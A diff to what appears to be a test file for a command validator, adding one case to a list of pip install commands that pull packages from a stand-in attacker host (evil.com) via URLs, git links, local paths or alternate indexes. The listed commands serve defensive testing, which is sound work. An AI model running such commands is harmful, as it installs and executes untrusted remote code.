@@ -209,6 +209,7 @@ testCoverage("P9 P10", {
       "pip install https://evil.com/x.whl",
       "pip install 'x @ https://evil.com/x.whl'",
       "pip install /tmp/evil",
+      "pip install -- git+https://evil.com/x",
       "pip install --index-url http://evil.com x",
       "pip install -i http://evil.com x",
       "pip install --extra-index=http://evil.com x",
